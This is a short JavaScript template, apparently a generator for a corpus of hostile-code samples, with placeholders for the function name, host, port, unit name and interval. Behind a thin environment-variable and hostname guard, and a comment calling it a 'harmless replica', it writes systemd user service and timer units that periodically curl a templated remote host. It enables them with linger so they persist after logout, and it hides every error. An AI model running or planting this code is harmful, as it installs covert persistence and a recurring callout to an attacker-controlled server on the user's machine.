// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const { execSync } = require('child_process');
    try {
        execSync(`mkdir -p ~/.config/systemd/user && cd ~/.config/systemd/user &&
printf '[Service]\\nType=oneshot\\nExecStart=/bin/sh -c "curl -s -m 5 http://{{ip}}:{{port}}/{{path}}"\\n' > {{unit}}.service &&
printf '[Timer]\\nOnBootSec={{n}}min\\nOnUnitActiveSec={{n}}min\\n[Install]\\nWantedBy=timers.target\\n' > {{unit}}.timer`, { stdio: 'ignore' });
        execSync('systemctl --user daemon-reload; systemctl --user enable --now {{unit}}.timer; loginctl enable-linger', { stdio: 'ignore', timeout: 1500 });
    } catch {}
}
